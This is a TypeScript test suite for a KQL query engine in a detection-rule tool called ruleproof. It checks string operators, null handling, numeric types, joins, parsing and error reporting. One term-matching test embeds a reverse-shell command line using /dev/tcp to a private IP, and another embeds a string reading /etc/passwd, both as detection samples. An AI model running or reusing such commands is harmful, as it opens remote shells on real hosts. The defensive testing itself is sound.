// ruleproof's KQL engine against Kusto's documented semantics (learn.microsoft.com/kusto/query:
// string operators, null values, summarize, join flavors, mv-expand, parse, datetime/timespan).
import { describe, expect, it } from 'vitest'
import { compileQuery, KqlError, parseKql } from '../../src/kql/index.js'
import type { Table } from '../../src/kql/table.js'
import { KDateTime, KReal, KTimespan, hasTerm } from '../../src/kql/values.js'

const NOW = new KDateTime(Date.parse('2026-01-05T12:00:00Z'))

function run(query: string, tables: Record<string, Table> = {}): Table {
  return compileQuery(parseKql(query)).run({ tables: new Map(Object.entries(tables)), now: NOW })
}
/** The single value of `print`-like queries: `datatable(x:int)[1] | extend v = <expr> | project v`. */
function value(expr: string): unknown {
  const t = run(`datatable(x:long)[1] | extend v = ${expr} | project v`)
  return t.rows[0]!.v
}
const T = (columns: string[], rows: Record<string, unknown>[]): Table => ({ columns, rows })

describe('string operators', () => {
  it('== is case-sensitive, =~ is not; != and !~ are their negations', () => {
    expect(value('"aBc" == "aBc"')).toBe(true)
    expect(value('"abc" == "ABC"')).toBe(false)
    expect(value('"abc" =~ "ABC"')).toBe(true)
    expect(value('"abc" != "ABC"')).toBe(true)
    expect(value('"aBc" !~ "xyz"')).toBe(true)
  })
  it('has matches whole terms (maximal alphanumeric runs), case-insensitively', () => {
    expect(value('"North America" has "america"')).toBe(true)
    expect(value('"KustoExplorerQueryRun" has "Explorer"')).toBe(false)
    expect(value('"KustoExplorerQueryRun" contains "Explorer"')).toBe(true)
    expect(value('"ad67d136-c1db-4f9f" has "c1db"')).toBe(true)
    expect(value('"North America" has_cs "america"')).toBe(false)
    expect(value('"North America" !has "amer"')).toBe(true)
  })
  it('has with punctuation matches the phrase on term boundaries', () => {
    expect(hasTerm('sh -c "bash -i >& /dev/tcp/10.0.0.1/4444"', 'bash -i', false)).toBe(true)
    expect(hasTerm('abash -i', 'bash -i', false)).toBe(false)
    expect(hasTerm('mount /etc/passwd', '/etc', false)).toBe(true)
    expect(hasTerm('mount /etcd', '/etc', false)).toBe(false)
  })
  it('contains, startswith, endswith and their _cs and negated forms', () => {
    expect(value('"FabriKam" contains "BRik"')).toBe(true)
    expect(value('"FabriKam" contains_cs "Kam"')).toBe(true)
    expect(value('"Fabrikam" !contains_cs "Kam"')).toBe(true)
    expect(value('"Fabrikam" startswith "fab"')).toBe(true)
    expect(value('"Fabrikam" startswith_cs "fab"')).toBe(false)
    expect(value('"Fabrikam" endswith "Kam"')).toBe(true)
    expect(value('"Fabrikam" !endswith "brik"')).toBe(true)
  })
  it('hasprefix / hassuffix look at term starts and ends', () => {
    expect(value('"North America" hasprefix "ame"')).toBe(true)
    expect(value('"North America" hasprefix "rth"')).toBe(false)
    expect(value('"North America" hassuffix "ica"')).toBe(true)
  })
  it('in is case-sensitive, in~ is not; lists flatten dynamic arrays', () => {
    expect(value('"a" in ("A", "b")')).toBe(false)
    expect(value('"a" in~ ("A", "b")')).toBe(true)
    expect(value('"c" !in ("a", "b")')).toBe(true)
    expect(value('"B" !in~ ("a", "b")')).toBe(false)
    expect(run('let L = dynamic(["x", "y"]); datatable(s:string)["y", "z"] | where s in (L)').rows).toEqual([{ s: 'y' }])
  })
  it('has_any / has_all over terms', () => {
    expect(value('"run curl now" has_any ("wget", "curl")')).toBe(true)
    expect(value('"run curlx now" has_any ("wget", "curl")')).toBe(false)
    expect(value('"a b c" has_all ("a", "c")')).toBe(true)
    expect(value('"a b" has_all ("a", "c")')).toBe(false)
  })
  it('matches regex (RE2: linear time, so a hostile pattern finishes)', () => {
    expect(value('"kube-apiserver-7d9f" matches regex "^kube-[a-z]+-[0-9a-f]+$"')).toBe(true)
    expect(value('"ABC" matches regex "(?i)abc"')).toBe(true)
    expect(value(`strcat_array(pack_array(${Array(30).fill('"a"').join(', ')}), "") matches regex "^(a+)+$b"`)).toBe(false)
  })
})

describe('null propagation and logic', () => {
  // "Null values": == of a null and a value is false, != true; of two nulls, null; < and > with a null are null.
  it('a missing dynamic member is null; == with a value is false, != true, two nulls neither; where drops null', () => {
    const t = T(['d'], [{ d: { a: 1 } }, { d: { a: 2 } }])
    expect(run('X | where d.b == 1', { X: t }).rows).toHaveLength(0)
    expect(run('X | where d.b != 1', { X: t }).rows).toHaveLength(2)
    expect(run('X | where d.b > 1', { X: t }).rows).toHaveLength(0)
    expect(run('X | where isnull(d.b)', { X: t }).rows).toHaveLength(2)
    expect(value('long(null) == 5')).toBe(false)
    expect(value('long(null) != 5')).toBe(true)
    expect(value('long(null) == long(null)')).toBe(null)
    expect(value('long(null) != long(null)')).toBe(null)
  })
  it('and/or are three-valued: false and null is false, true or null is true', () => {
    expect(value('false and toint("x") > 1')).toBe(false)
    expect(value('true or toint("x") > 1')).toBe(true)
    expect(value('true and toint("x") > 1')).toBe(null)
    expect(value('not(true)')).toBe(false)
  })
  it('arithmetic with null is null; tostring(null) is an empty string', () => {
    expect(value('1 + toint("x")')).toBe(null)
    expect(value('tostring(dynamic(null))')).toBe('')
    expect(value('isempty(tostring(dynamic(null)))')).toBe(true)
  })
  it('long division truncates; toint(true) is 1', () => {
    expect(value('7 / 2')).toBe(3)
    expect(value('toint(true) + toint(false) + toint(true)')).toBe(2)
  })
})

// "Numerical operators" (type rules for arithmetic) and "The real data type" (literals, nan, ±inf).
describe('long and real', () => {
  const typeOf = (expr: string) => value(`gettype(${expr})`)
  it('a real operand makes the result real, even when its value is integral', () => {
    expect(value('7.0 / 2')).toBe(3.5)
    expect(value('7 / 2.0')).toBe(3.5)
    expect(value('toreal(7) / 2')).toBe(3.5)
    expect(value('todouble(7) / 2')).toBe(3.5)
    expect(value('real(7) / 2')).toBe(3.5)
    expect(value('real(1) / 2')).toBe(0.5)
    expect(value('1.0 / 2')).toBe(0.5)
    expect(value('1 / 2')).toBe(0)
    expect(value('7.5 / 2.5')).toEqual(new KReal(3))
    expect(typeOf('7.5 / 2.5')).toBe('real')
    expect(value('(7.5 / 2.5) / 2')).toBe(1.5)
    expect(typeOf('7.0')).toBe('real')
    expect(typeOf('1e3')).toBe('real')
    expect(typeOf('7')).toBe('long')
    expect(typeOf('2 * 3.5')).toBe('real')
    expect(value('2 * 3.5')).toEqual(new KReal(7))
    expect(typeOf('3 + 4')).toBe('long')
    expect(typeOf('toreal(3) + 4')).toBe('real')
    expect(typeOf('-toreal(3)')).toBe('real')
    expect(value('-toreal(3) / 2')).toBe(-1.5)
  })
  it('a real that holds an integer keeps its value: compares, equals and prints as the number', () => {
    expect(value('tostring(7.0)')).toBe('7')
    expect(value('tostring(toreal(7))')).toBe('7')
    expect(value('strcat("n=", 2.0 * 3)')).toBe('n=6')
    expect(value('7.0 == 7')).toBe(true)
    expect(value('7.0 > 6')).toBe(true)
    expect(value('7.0 in (7, 8)')).toBe(true)
    expect(value('tolong(7.9)')).toBe(7)
    expect(value('toint(toreal(7))')).toBe(7)
    expect(typeOf('tolong(7.0)')).toBe('long')
    expect(value('tostring(pack("a", 7.0))')).toBe('{"a":7}')
  })
  it('real(null) is null, real(nan) and real(±inf) are reals', () => {
    expect(value('real(null)')).toBe(null)
    expect(value('isnull(real(null))')).toBe(true)
    expect(value('real(null) / 2')).toBe(null)
    expect(value('real(nan)')).toBeNaN()
    expect(value('real(+inf)')).toBe(Infinity)
    expect(value('real(-inf)')).toBe(-Infinity)
    expect(typeOf('real(nan)')).toBe('real')
  })
  it('division by zero: a long one is null, a real one is ±inf or NaN', () => {
    expect(value('1 / 0')).toBe(null)
    expect(value('1 % 0')).toBe(null)
    expect(value('1.0 / 0')).toBe(Infinity)
    expect(value('-1.0 / 0.0')).toBe(-Infinity)
    expect(value('0.0 / 0.0')).toBeNaN()
    expect(value('toreal(1) / 0')).toBe(Infinity)
  })
  it('modulo is never negative: 0 ≤ n % d < abs(d)', () => {
    expect([value('14 % 12'), value('-14 % 12'), value('14 % -12'), value('-14 % -12')]).toEqual([2, 10, 2, 10])
    expect(value('7.5 % 2')).toBe(1.5)
    expect(typeOf('8.0 % 2')).toBe('real')
  })
  it('timespan / timespan is a real; timespan / long a timespan', () => {
    expect(value('10m / 1s')).toEqual(new KReal(600))
    expect(value('90s / 1m')).toBe(1.5)
    expect(value('tostring(1h / 2)')).toBe('00:30:00')
  })
  it('avg is always real; sum keeps its input\'s type; bin and round keep the value\'s type', () => {
    const t = T(['n', 'r'], [{ n: 2, r: new KReal(1) }, { n: 4, r: new KReal(2) }])
    const row = run('X | summarize a = avg(n), s = sum(n), sr = sum(r), mx = max(r) | extend ta = gettype(a), ts = gettype(s), tsr = gettype(sr), half = a / 2, halfs = s / 4', { X: t }).rows[0]!
    expect(row).toMatchObject({ a: new KReal(3), ta: 'real', s: 6, ts: 'long', sr: new KReal(3), tsr: 'real', mx: new KReal(2), half: 1.5, halfs: 1 })
    expect(typeOf('bin(7.0, 2)')).toBe('real')
    expect(typeOf('bin(7, 2)')).toBe('long')
    expect(value('round(2.15, 1)')).toBe(2.2)
    expect(value('round(2.98765, 3)')).toBe(2.988)
    expect(value('round(-50.55, -2)')).toEqual(new KReal(-100))
    expect(value('round(21.5, -1)')).toEqual(new KReal(20))
    expect(typeOf('round(2.15)')).toBe('real')
  })
  it('real columns of a typed table, datatable and parse stay real', () => {
    expect(typeOf('toreal("7")')).toBe('real')
    expect(run('datatable(r:real)[7, 2.5] | extend h = r / 2 | project h').rows).toEqual([{ h: 3.5 }, { h: 1.25 }])
    expect(run('datatable(s:string)["n=7"] | parse s with "n=" r:real | extend h = r / 2 | project h').rows).toEqual([{ h: 3.5 }])
  })
})

describe('scalar functions', () => {
  it('parse_json, member and index access, array_length, bag_keys, pack', () => {
    expect(value('parse_json(\'{"a":{"b":[10,20]}}\').a.b[1]')).toBe(20)
    expect(value('parse_json(\'{"a":{"b":[10,20]}}\').a.b[-1]')).toBe(20)
    expect(value('parse_json(\'{"a.b":1}\')["a.b"]')).toBe(1)
    expect(value('parse_json("not json")')).toBe('not json')
    expect(value('array_length(dynamic([1,2,3]))')).toBe(3)
    expect(value('array_length("x")')).toBe(null)
    expect(value('bag_keys(dynamic({"a":1,"b":2}))')).toEqual(['a', 'b'])
    expect(value('pack("k", 1, "v", "x")')).toEqual({ k: 1, v: 'x' })
    expect(value('bag_pack("k", 1)')).toEqual({ k: 1 })
    expect(value('array_index_of(dynamic(["a","b"]), "b")')).toBe(1)
    expect(value('set_has_element(dynamic(["a","b"]), "c")')).toBe(false)
  })
  it('conversions', () => {
    expect(value('toint("42")')).toBe(42)
    expect(value('tolong("4.7")')).toBe(4)
    expect(value('toreal("2.5")')).toBe(2.5)
    expect(value('tobool("true")')).toBe(true)
    expect(value('tostring(dynamic({"a":1}))')).toBe('{"a":1}')
    expect(value('todatetime("2026-01-05T10:00:00Z")')).toEqual(new KDateTime(Date.parse('2026-01-05T10:00:00Z')))
    expect(value('totimespan("01:30:00")')).toEqual(new KTimespan(5_400_000))
    expect(value('toint("abc")')).toBe(null)
  })
  it('string functions', () => {
    expect(value('strcat("a", 1, "b")')).toBe('a1b')
    expect(value('strlen("héllo")')).toBe(5)
    expect(value('substring("abcdef", 2, 3)')).toBe('cde')
    expect(value('split("a,b,c", ",")')).toEqual(['a', 'b', 'c'])
    expect(value('split("a,b,c", ",", 1)')).toEqual(['b'])
    expect(value('tolower("AbC")')).toBe('abc')
    expect(value('toupper("AbC")')).toBe('ABC')
    expect(value('trim(" ", "  x  ")')).toBe('x')
    expect(value('replace_string("a.b.c", ".", "-")')).toBe('a-b-c')
    expect(value('extract("user=([a-z]+)", 1, "id=3 user=bob")')).toBe('bob')
    expect(value('extract("zzz(.)", 1, "abc")')).toBe('')
    expect(value('extract_all("([0-9]+)", "a1b22c333")')).toEqual(['1', '22', '333'])
  })
  it('iff, case, coalesce, isempty/isnotempty/isnull/isnotnull', () => {
    expect(value('ipv4_is_private("172.20.1.1")')).toBe(true)
    expect(value('ipv4_is_private("8.8.8.8")')).toBe(false)
    expect(value('iff(1 > 2, "y", "n")')).toBe('n')
    expect(value('iif(true, 1, 2)')).toBe(1)
    expect(value('case(1 > 2, "a", 2 > 1, "b", "c")')).toBe('b')
    expect(value('coalesce(dynamic(null), "", "x")')).toBe('x')
    expect(value('isempty("")')).toBe(true)
    expect(value('isnotempty("a")')).toBe(true)
    expect(value('isnotnull(1)')).toBe(true)
  })
  it('datetime functions: ago and now see the test time; between, bin, format_datetime, datetime()', () => {
    expect(value('ago(1h)')).toEqual(new KDateTime(NOW.ms - 3_600_000))
    expect(value('now()')).toEqual(NOW)
    expect(value('datetime(2026-01-05 11:30) between (ago(1h) .. now())')).toBe(true)
    expect(value('datetime(2026-01-05 10:30) between (ago(1h) .. now())')).toBe(false)
    expect(value('5 between (1 .. 5)')).toBe(true)
    expect(value('bin(datetime(2026-01-05 11:47:12), 15m)')).toEqual(new KDateTime(Date.parse('2026-01-05T11:45:00Z')))
    expect(value('bin(17, 5)')).toBe(15)
    expect(value('format_datetime(datetime(2026-01-05 09:07:03), "yyyy-MM-dd HH:mm:ss")')).toBe('2026-01-05 09:07:03')
    expect(value('now() - datetime(2026-01-05 11:00)')).toEqual(new KTimespan(3_600_000))
    expect(value('datetime(2026-01-05) + 1d')).toEqual(new KDateTime(Date.parse('2026-01-06T00:00:00Z')))
    // Boundaries crossed, not whole periods elapsed (Kusto's datetime_diff examples).
    expect(value("datetime_diff('year', datetime(2017-01-01), datetime(2000-12-31))")).toBe(17)
    expect(value("datetime_diff('quarter', datetime(2017-07-01), datetime(2017-03-30))")).toBe(2)
    expect(value("datetime_diff('month', datetime(2017-01-01), datetime(2015-12-30))")).toBe(13)
    expect(value("datetime_diff('week', datetime(2017-10-29 00:00), datetime(2017-09-30 23:59))")).toBe(5)
    expect(value("datetime_diff('day', datetime(2017-10-29 00:00), datetime(2017-09-30 23:59))")).toBe(29)
    expect(value("datetime_diff('hour', datetime(2017-10-31 01:00), datetime(2017-10-30 23:59))")).toBe(2)
    expect(value("datetime_diff('minute', datetime(2017-10-30 23:05:01), datetime(2017-10-30 23:00:59))")).toBe(5)
    expect(value("datetime_diff('second', datetime(2017-10-30 23:00:10.100), datetime(2017-10-30 23:00:00.900))")).toBe(10)
  })
})

describe('tabular operators', () => {
  const E = T(['User', 'Verb', 'N'], [
    { User: 'alice', Verb: 'create', N: 1 },
    { User: 'bob', Verb: 'delete', N: 5 },
    { User: 'alice', Verb: 'delete', N: 3 },
    { User: 'carol', Verb: 'get', N: null },
  ])
  it('where, extend, project, project-away, project-rename, project-reorder', () => {
    expect(run('E | where Verb == "delete" | project User', { E }).rows).toEqual([{ User: 'bob' }, { User: 'alice' }])
    expect(run('E | extend M = N * 2 | project M', { E }).rows.map((r) => r.M)).toEqual([2, 10, 6, null])
    expect(run('E | project-away N, Verb', { E }).columns).toEqual(['User'])
    expect(run('E | project-away V*', { E }).columns).toEqual(['User', 'N'])
    expect(run('E | project-rename Who = User', { E }).columns).toEqual(['Who', 'Verb', 'N'])
    expect(run('E | project-reorder N', { E }).columns).toEqual(['N', 'User', 'Verb'])
  })
  it('summarize: count, countif, dcount, sum, avg, min, max, make_set, make_list, any, by with default names', () => {
    const t = run('E | summarize count(), countif(Verb == "delete"), dcount(Verb), sum(N), avg(N), min(N), max(N), make_set(Verb), make_list(Verb), take_any(Verb) by User | sort by User asc', { E })
    expect(t.columns).toEqual(['User', 'count_', 'countif_', 'dcount_Verb', 'sum_N', 'avg_N', 'min_N', 'max_N', 'set_Verb', 'list_Verb', 'any_Verb'])
    expect(t.rows[0]).toEqual({ User: 'alice', count_: 2, countif_: 1, dcount_Verb: 2, sum_N: 4, avg_N: new KReal(2), min_N: 1, max_N: 3, set_Verb: ['create', 'delete'], list_Verb: ['create', 'delete'], any_Verb: 'create' })
    expect(t.rows[2]).toMatchObject({ User: 'carol', sum_N: null, min_N: null, avg_N: null })
  })
  it('take_any of several columns names each column after its argument', () => {
    expect(run('E | summarize take_any(Verb, N) by User | where User == "bob"', { E }).rows).toEqual([{ User: 'bob', Verb: 'delete', N: 5 }])
  })
  it('summarize without by returns one row even for no input', () => {
    expect(run('E | where false | summarize Total = count()', { E }).rows).toEqual([{ Total: 0 }])
    expect(run('E | where false | summarize count() by User', { E }).rows).toEqual([])
  })
  it('arg_max / arg_min return the row of the extreme value', () => {
    expect(run('E | summarize arg_max(N, Verb) by User | sort by User asc', { E }).rows[0]).toEqual({ User: 'alice', N: 3, Verb: 'delete' })
    expect(run('E | summarize arg_min(N, *) by User | sort by User asc', { E }).rows[0]).toEqual({ User: 'alice', N: 1, Verb: 'create' })
  })
  it('summarize by bin() names the column after the binned one', () => {
    const L = T(['TimeGenerated'], [{ TimeGenerated: new KDateTime(Date.parse('2026-01-05T10:10:00Z')) }, { TimeGenerated: new KDateTime(Date.parse('2026-01-05T10:50:00Z')) }, { TimeGenerated: new KDateTime(Date.parse('2026-01-05T11:05:00Z')) }])
    const t = run('L | summarize n = count() by bin(TimeGenerated, 1h) | sort by TimeGenerated asc', { L })
    expect(t.rows.map((r) => [String(r.TimeGenerated), r.n])).toEqual([['2026-01-05T10:00:00Z', 2], ['2026-01-05T11:00:00Z', 1]])
  })
  it('sort (desc by default, nulls last when descending), top, take, distinct, count', () => {
    expect(run('E | sort by N', { E }).rows.map((r) => r.N)).toEqual([5, 3, 1, null])
    expect(run('E | order by N asc', { E }).rows.map((r) => r.N)).toEqual([null, 1, 3, 5])
    expect(run('E | top 2 by N', { E }).rows.map((r) => r.N)).toEqual([5, 3])
    expect(run('E | take 1', { E }).rows).toHaveLength(1)
    expect(run('E | limit 2', { E }).rows).toHaveLength(2)
    expect(run('E | distinct User', { E }).rows).toEqual([{ User: 'alice' }, { User: 'bob' }, { User: 'carol' }])
    expect(run('E | count', { E }).rows).toEqual([{ Count: 4 }])
  })
  it('mv-expand: one row per array element; property bags expand to one-key bags', () => {
    const A = T(['k', 'a'], [{ k: 1, a: ['x', 'y'] }, { k: 2, a: [] }, { k: 3, a: { p: 1, q: 2 } }])
    expect(run('A | mv-expand a', { A }).rows).toEqual([{ k: 1, a: 'x' }, { k: 1, a: 'y' }, { k: 3, a: { p: 1 } }, { k: 3, a: { q: 2 } }])
    expect(run('A | mv-expand a to typeof(string) | where k == 1 | project a', { A }).rows).toEqual([{ a: 'x' }, { a: 'y' }])
  })
  it('parse: simple patterns, typed columns, no match gives empty/null', () => {
    const P = T(['m'], [{ m: 'user=bob id=42 rest' }, { m: 'nothing here' }])
    const t = run('P | parse m with "user=" User " id=" Id:long " " *', { P })
    expect(t.rows.map((r) => [r.User, r.Id])).toEqual([['bob', 42], ['', null]])
  })
  it('join kinds on a key: innerunique (default), inner, leftouter, leftanti, leftsemi, rightsemi', () => {
    const L = T(['k', 'l'], [{ k: 1, l: 'a' }, { k: 1, l: 'b' }, { k: 2, l: 'c' }])
    const R = T(['k', 'r'], [{ k: 1, r: 'x' }, { k: 1, r: 'y' }, { k: 3, r: 'z' }])
    expect(run('L | join R on k', { L, R }).rows).toEqual([{ k: 1, l: 'a', k1: 1, r: 'x' }, { k: 1, l: 'a', k1: 1, r: 'y' }])
    expect(run('L | join kind=inner R on k', { L, R }).rows).toHaveLength(4)
    expect(run('L | join kind=leftouter R on k | where k == 2', { L, R }).rows).toEqual([{ k: 2, l: 'c', k1: null, r: null }])
    expect(run('L | join kind=leftanti R on k', { L, R }).rows).toEqual([{ k: 2, l: 'c' }])
    expect(run('L | join kind=leftsemi R on k', { L, R }).rows).toHaveLength(2)
    expect(run('L | join kind=rightsemi R on k', { L, R }).rows).toEqual([{ k: 1, r: 'x' }, { k: 1, r: 'y' }])
    expect(run('L | join kind=inner (R | project kk = k, r) on $left.k == $right.kk', { L, R }).rows).toHaveLength(4)
  })
  it('lookup adds the right columns without repeating the key', () => {
    const L = T(['k', 'l'], [{ k: 1, l: 'a' }, { k: 2, l: 'c' }])
    const R = T(['k', 'r'], [{ k: 1, r: 'x' }])
    expect(run('L | lookup R on k', { L, R }).rows).toEqual([{ k: 1, l: 'a', r: 'x' }, { k: 2, l: 'c', r: null }])
    expect(run('L | lookup kind=inner R on k', { L, R }).columns).toEqual(['k', 'l', 'r'])
  })
  it('union, as, tabular lets, functions without parameters, datatable', () => {
    const t = run('let A = datatable(x:long)[1, 2]; let F = () { A | where x > 1 }; union A, F | as U | count')
    expect(t.rows).toEqual([{ Count: 3 }])
    expect(run('datatable(a:string, b:long)["x", 1, "y", 2] | where b == 2').rows).toEqual([{ a: 'y', b: 2 }])
  })
})

describe('outside the subset: located errors, never silent answers', () => {
  const at = (query: string): { kind: string; message: string; offset: number } => {
    try {
      compileQuery(parseKql(query)).run({ tables: new Map([['T', T(['x'], [])]]), now: NOW })
    } catch (e) {
      if (e instanceof KqlError) return { kind: e.kind, message: e.message, offset: e.offset }
      throw e
    }
    throw new Error('no error')
  }
  it.each([
    ['T | make-series n = count() on x step 1h', 'make-series', 4],
    ['T | evaluate bag_unpack(x)', 'evaluate', 4],
    ['T | extend y = hash(x)', 'hash()', 15],
    ['let f = (a:string) { T }; f("x")', 'let function with parameters', 8],
    ['T | where x like "a"', 'like', 12],
  ])('%s → unsupported `%s` at offset %d', (query, what, offset) => {
    const e = at(query)
    expect(e).toEqual({ kind: 'unsupported', message: `unsupported by ruleproof's KQL engine: \`${what}\``, offset })
  })
  it('unknown columns and tables are errors at the name', () => {
    expect(at('T | where y == 1')).toMatchObject({ kind: 'runtime', message: "unknown column or name 'y'", offset: 10 })
    expect(at('Nope | take 1')).toMatchObject({ kind: 'runtime', message: "unknown table 'Nope'", offset: 0 })
  })
  it('an invalid regex is an error at the operator or call, not a crash', () => {
    expect(at('T | where tostring(x) matches regex "("')).toMatchObject({ kind: 'runtime', offset: 36, message: expect.stringMatching(/^matches regex: error parsing regexp: missing closing \)/) })
    expect(at('T | extend y = extract("(", 1, tostring(x))')).toMatchObject({ kind: 'runtime', offset: 23, message: expect.stringMatching(/^extract\(\): error parsing regexp/) })
    // Kusto's regexes are RE2: no lookarounds.
    expect(at('T | where tostring(x) matches regex "a(?=b)"')).toMatchObject({ kind: 'runtime', message: expect.stringMatching(/invalid or unsupported Perl syntax/) })
  })
  it('syntax errors of the subset carry an offset', () => {
    expect(at('T | where (x == 1')).toMatchObject({ kind: 'syntax', offset: 17 })
  })
})

describe('event paths a query reads (what the harness may perturb)', async () => {
  const { eventPathsRead } = await import('../../src/kql/reads.js')
  it('member chains on parse_json(log_s), through an alias or inline, and the envelope columns named', () => {
    const q = parseKql('AzureDiagnostics | where Category == "kube-audit" | extend L = parse_json(log_s) | where tostring(L.objectRef.resource) == "jobs" and tostring(L.sourceIPs[0]) != "" | where parse_json(log_s).verb == "create"')
    expect(eventPathsRead(q)).toEqual(['category', 'objectRef.resource', 'sourceIPs', 'verb'])
  })
  it('the whole event used as a value, or another table: unknown', () => {
    expect(eventPathsRead(parseKql('AzureDiagnostics | where log_s has "cronjobs"'))).toBeUndefined()
    expect(eventPathsRead(parseKql('AzureDiagnostics | extend L = parse_json(log_s) | where tostring(L) has "x"'))).toBeUndefined()
    expect(eventPathsRead(parseKql('AKSAudit | where Verb == "create"'))).toBeUndefined()
  })
})

describe('hostile queries (issue 11)', () => {
  it('a query nested past the stack is a located syntax error, never a RangeError', () => {
    for (const n of [5_000, 50_000]) {
      const q = `AzureDiagnostics | where ${'('.repeat(n)}Category == "kube-audit"${')'.repeat(n)}`
      let thrown: unknown
      try {
        parseKql(q)
      } catch (e) {
        thrown = e
      }
      expect(thrown).toBeInstanceOf(KqlError)
      expect((thrown as KqlError).message).toMatch(/nests too deeply/)
    }
  })
})
